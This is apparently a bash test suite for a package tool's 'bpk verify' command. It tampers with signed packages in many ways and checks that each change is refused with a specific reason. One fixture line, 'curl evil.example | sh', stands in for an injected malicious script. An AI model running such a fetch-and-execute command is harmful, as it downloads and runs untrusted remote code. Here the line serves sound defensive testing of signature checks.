#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# The tamper suite, level 1: every way of changing a signed package, or its signature, is
# refused by `bpk verify` with its own reason; --allow-unsigned excuses only a missing one.
. "$(dirname "$0")/lib.sh"

OBJS=$BPK_TEST_BPF_DIR
cd "$SCRATCH"

# refused PKG REASON: `bpk verify PKG` exits 1 with exactly that reason, also with -j (the
# reasons hold no character that JSON escapes, so the text is matched as it is).
refused() {
	expect_code 1 "$BPK" verify "$1" --trust trust.d
	assert_fgrep "error: cannot verify '$1': $2" err
	expect_code 1 "$BPK" verify -j "$1" --trust trust.d
	assert_fgrep '"verdict": "refused"' out
	assert_fgrep "\"reason\": \"$2" out
}

# tamper.py: rewrite a .bpk (a gzip'd ustar) with one change, the way an attacker would.
cat >tamper.py <<'EOF'
import gzip, io, sys, tarfile

def load(path):
    with tarfile.open(path, "r:gz") as t:
        return [(m.name, t.extractfile(m).read()) for m in t.getmembers()]

def save(path, entries):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in entries:
            info = tarfile.TarInfo(name)
            info.size, info.mode, info.mtime = len(data), 0o644, 0
            t.addfile(info, io.BytesIO(data))
    with open(path, "wb") as f:
        f.write(gzip.compress(buf.getvalue(), mtime=0))

op, src, dst = sys.argv[1:4]
args = sys.argv[4:]
entries = load(src)
if op == "flip":            # flip PATH XOR [AFTER]: xor the middle byte, or the first letter after AFTER
    path, mask = args[0], int(args[1], 0)
    for i, (name, data) in enumerate(entries):
        if name == path:
            if len(args) > 2:
                at = data.index(args[2].encode()) + len(args[2])
                while not chr(data[at]).isalpha():
                    at += 1
            else:
                at = len(data) // 2
            data = bytearray(data)
            data[at] ^= mask
            entries[i] = (name, bytes(data))
elif op == "set":           # set PATH FILE: new content (added when missing)
    data = open(args[1], "rb").read()
    if any(n == args[0] for n, _ in entries):
        entries = [(n, data if n == args[0] else d) for n, d in entries]
    else:
        entries.append((args[0], data))
elif op == "remove":        # remove PATH
    entries = [(n, d) for n, d in entries if n != args[0]]
elif op == "truncate":      # truncate PATH: keep the first half
    entries = [(n, d[: len(d) // 2] if n == args[0] else d) for n, d in entries]
else:
    sys.exit("unknown op " + op)
save(dst, entries)
EOF

say "a signed package and a policy that trusts its signer"
expect_code 0 "$BPK" key gen -o release
id=$(tail -n 1 out)
expect_code 0 "$BPK" key gen -o stranger
id_stranger=$(tail -n 1 out)
expect_code 0 "$BPK" trust add release.pub --names 'acme/*' --comment acme-release --dir trust.d
pkg_dir src acme/demo xdp_counter x
expect_code 0 "$BPK" pack src -o unsigned.bpk
cp unsigned.bpk good.bpk
expect_code 0 "$BPK" sign good.bpk --key release.pem
expect_code 0 "$BPK" verify good.bpk --trust trust.d
# tarfile's own rewrite of the untouched package still verifies: the checks are not about
# bpk's byte layout, so every refusal below is the change's doing.
python3 tamper.py remove good.bpk repacked.bpk nothing
expect_code 0 "$BPK" verify repacked.bpk --trust trust.d

say "a byte flipped in each file is refused, naming the file"
for f in README.md bpf/xdp_counter.o tests/t.json; do
	python3 tamper.py flip good.bpk flip.bpk "$f" 0x01
	refused flip.bpk "entry '$f' has SHA-256 "
	assert_fgrep "but bpk.json 'files' says " err
done
say "a byte flipped in bpk.json breaks the signature"
python3 tamper.py flip good.bpk flip.bpk bpk.json 0x01 '"description": "'
refused flip.bpk "signature by key $id (acme-release) does not match bpk.json (tampered?)"
say "a byte flipped in bpk.sig's signature breaks it too"
python3 tamper.py flip good.bpk flip.bpk bpk.sig 0x20 '"sig": "'
refused flip.bpk "signature by key $id (acme-release) does not match bpk.json (tampered?)"

say "a file replaced, added, removed"
cp "$OBJS/tc_classifier.o" other.o
python3 tamper.py set good.bpk t.bpk bpf/xdp_counter.o other.o
refused t.bpk "entry 'bpf/xdp_counter.o' is $(stat -c %s other.o) bytes but bpk.json 'files' says $(stat -c %s src/bpf/xdp_counter.o)"
echo 'curl evil.example | sh' >extra.sh
python3 tamper.py set good.bpk t.bpk tools/extra.sh extra.sh
refused t.bpk "entry 'tools/extra.sh' is not listed in bpk.json 'files'"
python3 tamper.py remove good.bpk t.bpk tests/t.json
refused t.bpk "entry 'tests/t.json' is listed in bpk.json 'files' but is not in the package"

say "the manifest edited to match a replaced object, the old signature kept"
mkdir x && tar -xzf good.bpk -C x
python3 - x/bpk.json other.o <<'EOF'
import hashlib, json, sys
m = json.load(open(sys.argv[1]))
data = open(sys.argv[2], "rb").read()
for f in m["files"]:
    if f["path"] == "bpf/xdp_counter.o":
        f["sha256"], f["size"] = hashlib.sha256(data).hexdigest(), len(data)
open(sys.argv[1], "w").write(json.dumps(m, indent=2) + "\n")
EOF
python3 tamper.py set good.bpk t1.bpk bpk.json x/bpk.json
python3 tamper.py set t1.bpk t.bpk bpf/xdp_counter.o other.o
refused t.bpk "signature by key $id (acme-release) does not match bpk.json (tampered?)"

say "signed by a key the policy does not know"
cp unsigned.bpk stranger.bpk
expect_code 0 "$BPK" sign stranger.bpk --key stranger.pem
refused stranger.bpk "signature by unknown key $id_stranger"

say "signed by a trusted key outside its names"
pkg_dir other other/tool xdp_counter x
expect_code 0 "$BPK" pack other -o other.bpk
expect_code 0 "$BPK" sign other.bpk --key release.pem
refused other.bpk "signed by key $id (acme-release) which is trusted only for 'acme/*', not 'other/tool'"

say "bpk.sig truncated, garbage, with a signature of the wrong length"
python3 tamper.py truncate good.bpk t.bpk bpk.sig
refused t.bpk "bpk.sig is not valid JSON"
head -c 300 /dev/urandom >garbage.sig
python3 tamper.py set good.bpk t.bpk bpk.sig garbage.sig
refused t.bpk "bpk.sig is not valid JSON"
python3 - x/bpk.sig short.sig <<'EOF'
import base64, json, sys
s = json.load(open(sys.argv[1]))
s["signatures"][0]["sig"] = base64.b64encode(base64.b64decode(s["signatures"][0]["sig"])[:63]).decode()
open(sys.argv[2], "w").write(json.dumps(s))
EOF
python3 tamper.py set good.bpk t.bpk bpk.sig short.sig
refused t.bpk "bpk.sig: 'signatures[0].sig' decodes to 63 bytes; an Ed25519 signature is 64 bytes"
echo '{"signatures": [{"keyid": "'"$id"'", "alg": "ed25519", "sig": "@@@@"}]}' >bad64.sig
python3 tamper.py set good.bpk t.bpk bpk.sig bad64.sig
refused t.bpk "bpk.sig: 'signatures[0].sig' is not base64"

say "unsigned: refused, or accepted loudly with --allow-unsigned"
refused unsigned.bpk "unsigned package"
expect_code 0 "$BPK" verify unsigned.bpk --trust trust.d --allow-unsigned
assert_fgrep "warning: 'unsigned.bpk' is UNSIGNED; accepted because of --allow-unsigned" err
assert_fgrep "accepted 'unsigned.bpk': acme/demo 1.0.0, unsigned" out
expect_code 0 "$BPK" verify -j unsigned.bpk --trust trust.d --allow-unsigned
assert_fgrep "warning: 'unsigned.bpk' is UNSIGNED" err
[ "$(json_get out 'j["verdict"]')" = unsigned-allowed ] || fail "-j verdict is not unsigned-allowed"

say "--allow-unsigned excuses neither a bad signature nor a changed file"
python3 tamper.py flip good.bpk t.bpk bpk.json 0x01 '"description": "'
expect_code 1 "$BPK" verify t.bpk --trust trust.d --allow-unsigned
assert_fgrep "does not match bpk.json (tampered?)" err
python3 tamper.py flip unsigned.bpk t.bpk README.md 0x01
expect_code 1 "$BPK" verify t.bpk --trust trust.d --allow-unsigned
assert_fgrep "entry 'README.md' has SHA-256 " err
assert_no_grep "UNSIGNED" err
python3 tamper.py truncate good.bpk t.bpk bpk.sig
expect_code 1 "$BPK" verify t.bpk --trust trust.d --allow-unsigned
assert_fgrep "bpk.sig is not valid JSON" err

say "a broken trust policy refuses every package rather than trusting less or more"
cp -r trust.d broken.d
echo '{"keyid": "'"$id"'"}' >broken.d/zz.json
expect_code 1 "$BPK" verify good.bpk --trust broken.d
assert_fgrep "trust policy refused: 'broken.d/zz.json': 'public_key': is missing" err
